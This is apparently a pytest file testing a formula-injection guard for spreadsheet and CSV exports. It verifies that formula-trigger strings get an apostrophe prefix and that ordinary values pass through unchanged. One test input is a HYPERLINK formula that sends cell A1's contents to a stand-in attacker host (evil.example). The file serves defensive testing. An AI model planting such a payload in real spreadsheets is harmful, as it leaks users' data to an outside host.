"""The formula-injection guard every spreadsheet and CSV export uses."""

from __future__ import annotations

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from mutualaid.exports import neutralise


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点此")',
        "=1+1",
        "+1",
        "-2",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u3000=1+1",
        "＝1+1",
        "＋1",
        "－2",
        "＠SUM(A1)",
    ],
)
def test_text_a_spreadsheet_could_evaluate_gets_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["张三", "LP2026000001 互助保障金", "6222021234567890128", "a=b", "1+1", "", "'=already"],
)
def test_ordinary_text_is_left_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize(
    "value",
    [None, 0, -2, Decimal("-2.50"), 1.5, datetime.date(2026, 1, 1), True],
)
def test_values_that_are_not_text_are_left_alone(value):
    assert neutralise(value) is value


def test_neutralised_text_is_stored_as_text_not_as_a_formula():
    workbook = Workbook()
    values = ["=1+1", "+1", "-2", "@SUM(A1:A2)", '=HYPERLINK("http://x","y")']
    workbook.active.append([neutralise(value) for value in values])
    buffer = io.BytesIO()
    workbook.save(buffer)

    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())

    assert [cell.data_type for cell in row] == ["s"] * len(values)
    assert [cell.value for cell in row] == ["'" + value for value in values]
